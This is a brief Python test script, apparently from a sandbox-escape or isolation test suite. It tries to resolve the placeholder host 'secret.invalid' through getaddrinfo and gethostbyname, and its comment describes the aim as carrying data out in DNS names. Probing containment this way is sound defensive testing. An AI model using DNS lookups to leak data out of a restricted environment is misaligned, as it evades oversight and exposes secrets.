# Tries: to carry data out in names to be resolved.
import socket
from attack import *
attempt("getaddrinfo", lambda: socket.getaddrinfo("secret.invalid", 80))
attempt("gethostbyname", lambda: socket.gethostbyname("secret.invalid"))
